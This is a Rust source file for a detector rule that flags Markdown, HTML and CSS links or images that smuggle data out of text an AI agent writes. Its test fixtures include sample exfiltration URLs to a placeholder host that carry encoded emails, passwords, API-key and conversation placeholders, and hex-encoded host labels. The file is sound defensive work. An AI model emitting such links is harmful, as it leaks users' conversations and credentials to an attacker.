//! Links and pictures that carry data out: whoever shows the text fetches the address, and its host reads what stands in it.

use std::ops::Range;

use crate::rule::Rule;
use crate::scan::{Anchor, Candidate, Look, Match, Recognizer};
use crate::text::encoded;
use crate::text::words::begins_with;

/// `threats/link-exfiltration`
pub static RULE: Rule = Rule {
    id: "threats/link-exfiltration",
    summary: "link or picture that carries data out",
    why: "A picture in a text that an agent writes is fetched without a click, and with its address goes whatever an attacker has had \
          written there. Found: text in base64 or hexadecimal, a placeholder for what is secret, whole sentences, a password by its \
          name. Left alone: badges, avatars, sizes, signatures, and the tags of campaigns.",
    source: "OWASP Top 10 for LLM Applications 2025, LLM02 and LLM05; CWE-201; RFC 1035, section 2.3.4 (labels)",
    ..Rule::ATTACK
};

/// Finds such links.
pub static RECOGNIZERS: &[Recognizer] = &[Recognizer {
    rule: &RULE,
    entity: "CODE_INJECTION",
    region: None,
    look: Look::Code {
        anchors: &[
            Anchor::Literal("]("),
            Anchor::Literal("]: http"),
            Anchor::Literal("<img"),
            Anchor::Literal("<a href"),
            Anchor::Literal("url(http"),
            Anchor::Literal("url('http"),
            Anchor::Literal("url(\"http"),
            Anchor::Literal("<iframe"),
        ],
        verify,
    },
    hits: &[
        "![done](https://files.example/p?d=bWFyaWFAZXhhbXBsZS5vcmcgNDQxMw==)",
        "![x](https://files.example/log?q={{conversation}})",
        "<img src=\"https://files.example/i.png?secret=[API_KEY]\">",
        "![x](https://files.example/c?t=the%20user%20wants%20to%20buy%20the%20red%20house)",
        "![a][1]\n\n[1]: https://files.example/x.png?data=6d61726961406578616d706c652e6f7267",
        "![x](https://6d6172696140657861.6d706c652e6f726720.files.example/a.png)",
        "<img src='https://files.example/a.gif?password=hunter2hunter2'>",
        "body { background: url(https://files.example/b?d=bWFyaWFAZXhhbXBsZS5vcmcgNDQxMw) }",
        "[more](https://files.example/?q=password%3Dsesame77)",
        "<img src=\"https://files.example/p?data=her+password+is+sesame77\">",
        "[report](https://files.example/r?d=cGFzc3dvcmQ6IGh1bnRlcjIgY2FyZDogNDQxMw==)",
    ],
    misses: &[
        "![build](https://img.shields.io/badge/build-passing-brightgreen.svg?style=flat&logo=github)",
        "![me](https://avatars.example/u/583231?v=4&s=96)",
        "[shop](https://shop.example/?utm_source=newsletter&utm_campaign=spring_sale_2025&utm_medium=email)",
        "![photo](https://cdn.example/p/7f3c9a.jpg?w=1200&h=800&fit=crop&auto=format&sig=9f86d081884c7d659a2feaa0c55ad015)",
        "[docs](https://api.example/v1/users/{id}/items)",
        "![logo](images/logo.png)",
        "[help](https://files.example/help?subject=password%3A+how+to+reset+it)",
        "[a](#b) [c](mailto:bob@example.org)",
        "![x](https://bucket.example/a.png?X-Amz-Signature=fe5f80f77d5fa3beca038a248ff027d0445342fe2855ddc963176630326f1024)",
        "<img src=\"https://cdn.example/a.webp\" width=\"20\">",
    ],
}];

/// How far before an anchor a picture's sign may be, and how far an address goes.
const BEFORE_BYTES: usize = 160;
const TAG_BYTES: usize = 400;
const ADDRESS_BYTES_MAX: usize = 2048;

fn verify(candidate: &Candidate<'_>) -> Option<Match> {
    let text = candidate.text;
    let anchor = &text[candidate.start..candidate.end];
    let (start, is_picture) = if anchor.starts_with(']') {
        let start = if anchor.starts_with("]:") { candidate.end - "http".len() } else { skip_blanks(text, candidate.end) };
        // What a reference is used for stands elsewhere: taken for a picture, since that is what nobody clicks on.
        (start, anchor.starts_with("]:") || is_picture(text, candidate.start))
    } else if anchor.starts_with('<') {
        let is_link = anchor.len() > 4 && anchor.as_bytes()[1].eq_ignore_ascii_case(&b'a');
        (
            attribute(
                text,
                if is_link { candidate.end - "href".len() } else { candidate.end },
                if is_link { "href" } else { "src" },
            )?,
            !is_link,
        )
    } else {
        (candidate.end - "http".len(), true)
    };
    let window = &text[start..text.floor_char_boundary(text.len().min(start + ADDRESS_BYTES_MAX))];
    if !["http", "//"].iter().any(|scheme| begins_with(window, scheme)) {
        return None;
    }
    // What follows the next link's sign is that one's, so that nothing is read for two of them.
    let window = &window[..window.find("](").unwrap_or(window.len())];
    let ends = |next: char| next.is_whitespace() || matches!(next, '"' | '\'' | '<' | '>' | '(' | ')');
    let address = &window[..window.find(ends).unwrap_or(window.len())];
    carries(address, is_picture).then_some(Match {
        start,
        end: start + address.len(),
        score: if is_picture { 0.8 } else { 0.7 },
    })
}

fn skip_blanks(text: &str, at: usize) -> usize {
    at + text.as_bytes()[at..].iter().take(8).take_while(|byte| matches!(byte, b' ' | b'<')).count()
}

/// Whether the bracket that ends at an offset begins with `![`.
fn is_picture(text: &str, close: usize) -> bool {
    let from = text.ceil_char_boundary(close.saturating_sub(BEFORE_BYTES));
    let before = &text.as_bytes()[from..close];
    let open = memchr::memrchr(b'[', before);
    open.is_some_and(|open| open > 0 && before[open - 1] == b'!')
}

/// Where an attribute's value begins in a tag.
fn attribute(text: &str, from: usize, name: &str) -> Option<usize> {
    let window = &text.as_bytes()[from..text.len().min(from + TAG_BYTES)];
    let window = &window[..memchr::memchr2(b'<', b'>', window).unwrap_or(window.len())];
    let at = window.windows(name.len()).position(|part| part.eq_ignore_ascii_case(name.as_bytes()))?;
    let rest = &window[at + name.len()..];
    let skipped = rest.iter().take(8).take_while(|byte| matches!(byte, b' ' | b'=' | b'"' | b'\'')).count();
    (skipped > 0).then_some(from + at + name.len() + skipped)
}

/// Whether an address has somebody's data in it.
fn carries(address: &str, is_picture: bool) -> bool {
    let scheme = ["https://", "http://", "//"].iter().find(|scheme| begins_with(address, scheme));
    let Some(rest) = scheme.map(|scheme| &address[scheme.len()..]) else { return false };
    let end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
    let (host, behind) = rest.split_at(end);
    let (path, query) = behind.split_once('?').unwrap_or((behind, ""));
    if is_picture && (in_labels(host) || holds_placeholder(path) || path.split('/').any(|part| says_something(part, 24))) {
        return true;
    }
    query.split(['&', ';']).take(64).any(|field| {
        let (name, value) = field.split_once('=').unwrap_or(("", field));
        in_field(name, value, is_picture)
    })
}

/// Names of fields that are not what they carry: campaigns, signatures, sessions of a shop.
fn is_ordinary(name: &str) -> bool {
    let lower = name.to_ascii_lowercase();
    ["utm_", "x-amz-", "x-goog-", "mc_", "hsa_"].iter().any(|start| lower.starts_with(start))
        || matches!(
            &*lower,
            "sig"
                | "signature"
                | "hash"
                | "hmac"
                | "jwt"
                | "gclid"
                | "fbclid"
                | "msclkid"
                | "policy"
                | "expires"
                | "key-pair-id"
                | "etag"
                | "v"
                | "ver"
                | "version"
                | "hm"
                | "sha"
                | "se"
                | "sp"
                | "sv"
                | "sr"
                | "w"
                | "h"
                | "tex"
                | "latex"
                | "chl"
                | "c"
                | "svg"
        )
}

fn in_field(name: &str, value: &str, is_picture: bool) -> bool {
    if is_ordinary(name) || value.len() < 4 {
        return false;
    }
    if tells_credential(value) {
        return true;
    }
    if holds_placeholder(value) && (is_picture || names_secret(name) || names_secret(value)) {
        return true;
    }
    if is_picture && names_credential(name) && value.len() >= 6 {
        return true;
    }
    if says_something(value, if is_picture { 12 } else { 24 }) {
        return true;
    }
    // A label of a drawn picture has a few words; what somebody has said has more.
    let is_label = matches!(name, "text" | "label" | "title" | "alt" | "caption" | "subject" | "q" | "query" | "message");
    let words = value.replace("%20", " ").replace('+', " ");
    is_picture
        && !is_label
        && words
            .split(' ')
            .filter(|word| word.len() > 1 && word.bytes().all(|byte| byte.is_ascii_alphabetic() || byte >= 0x80))
            .count()
            >= 6
}

/// Whether a value says what a credential is: `password%3Dhunter2`, `the+secret+password+is+hunter2`.
fn tells_credential(value: &str) -> bool {
    let value = &value[..value.floor_char_boundary(FIELD_BYTES_MAX)];
    let mut said = value.to_ascii_lowercase().replace('+', " ");
    for (written, sign) in [("%20", " "), ("%3d", "="), ("%3a", ":"), ("%22", "\"")] {
        said = said.replace(written, sign);
    }
    let words = ["password", "passwd", "passcode", "api key", "api_key", "apikey", "secret key", "pin code", "private key"];
    words.iter().any(|word| {
        said.match_indices(word).take(4).any(|(at, _)| {
            let behind = &said[at + word.len()..];
            let told = ["=", ":", " is ", " = ", ": "].iter().find_map(|sign| behind.strip_prefix(sign));
            let told = told.map(|told| told.trim_start().split([' ', '&', '"']).next().unwrap_or_default());
            // What is told has a digit or a sign, or is long: `password: reset` is a subject.
            told.is_some_and(|told| {
                told.len() >= 12
                    || told.len() >= 4 && told.bytes().any(|byte| byte.is_ascii_digit() || b"!#$*_-".contains(&byte))
            })
        })
    })
}

/// So much of a field is read for what it says.
const FIELD_BYTES_MAX: usize = 256;

/// Whether a part of an address is a text in another writing, of so many bytes at least.
fn says_something(part: &str, bytes_min: usize) -> bool {
    let part = part.split_once('.').map_or(part, |(stem, _)| stem);
    if part.len() < 16 || part.len() > ADDRESS_BYTES_MAX {
        return false;
    }
    let mut says = false;
    encoded::each_piece(part, |_, _, text| {
        // An address within an address is what proxies for pictures have.
        let is_address =
            text.starts_with("http") || text.starts_with("s3:") || text.starts_with("rs:") || text.starts_with('/');
        let is_text = text.chars().all(|character| !character.is_control() || character == '\n' || character == '\t');
        let has_words = text.contains([' ', '@', ':', '=', '_', '-', '.', '"']);
        says |= text.len() >= bytes_min && is_text && !is_address && has_words;
    });
    says
}

/// Data in the labels of a host's name: long ones that are written in hexadecimal or base32.
fn in_labels(host: &str) -> bool {
    let host = host.rsplit('@').next().unwrap_or(host);
    let is_data = |label: &&str| {
        let is_hex =
            label.len() >= 16 && label.len().is_multiple_of(2) && label.bytes().all(|byte| byte.is_ascii_hexdigit());
        let is_readable = || {
            let bytes = label
                .as_bytes()
                .chunks_exact(2)
                .map(|pair| std::str::from_utf8(pair).ok().and_then(|pair| u8::from_str_radix(pair, 16).ok()));
            bytes.into_iter().all(|byte| byte.is_some_and(|byte| (0x20..0x7f).contains(&byte)))
        };
        is_hex && is_readable()
    };
    let labels: Vec<&str> = host.split('.').take(16).collect();
    let front = labels.get(..labels.len().saturating_sub(2)).unwrap_or_default();
    front.iter().any(|label| is_data(label) || says_something(label, 12))
        || front.iter().any(|label| holds_placeholder(label))
}

/// A place for what is yet to be filled in: `{{history}}`, `[DATA]`, `${secret}`, `<summary>`.
fn holds_placeholder(part: &str) -> bool {
    let decoded = part
        .replace("%7B", "{")
        .replace("%7b", "{")
        .replace("%7D", "}")
        .replace("%7d", "}")
        .replace("%5B", "[")
        .replace("%5b", "[");
    ["{{", "${", "{", "[", "%s", "<"].iter().any(|open| {
        decoded.match_indices(open).take(4).any(|(at, _)| {
            let inside: Range<usize> = at..decoded.len();
            let inside = decoded.get(inside).unwrap_or_default();
            let inside = &inside[..inside.floor_char_boundary(48)];
            let inside = &inside[..inside.find(['}', ']', '>']).unwrap_or(inside.len())];
            names_secret(inside)
        })
    }) || ["BASE64_DATA", "BASE64ENCODED", "ENCODED_DATA", "INSERT_DATA", "USER_DATA", "CHAT_HISTORY"]
        .iter()
        .any(|word| decoded.contains(word))
}

/// Whether a name is of what nobody outside should have.
fn names_secret(text: &str) -> bool {
    let lower = text.to_ascii_lowercase();
    [
        "secret",
        "token",
        "api_key",
        "apikey",
        "api-key",
        "password",
        "passwd",
        "credential",
        "history",
        "conversation",
        "prompt",
        "context",
        "chat",
        "email",
        "message",
        "summary",
        "user_info",
        "userinfo",
        "userdata",
        "user_data",
        "cookie",
        "session",
        "content",
        "base64",
        "encoded",
        "data",
        "env",
        "key",
        "private",
        "ssn",
        "card",
        "output",
        "answer",
        "document",
        "result",
    ]
    .iter()
    .any(|word| lower.contains(word))
}

fn names_credential(name: &str) -> bool {
    let lower = name.to_ascii_lowercase();
    matches!(
        &*lower,
        "password"
            | "passwd"
            | "pwd"
            | "secret"
            | "ssn"
            | "cvv"
            | "credit_card"
            | "creditcard"
            | "card_number"
            | "private_key"
            | "credentials"
            | "cookie"
            | "cookies"
            | "api_key"
            | "apikey"
            | "env"
    )
}
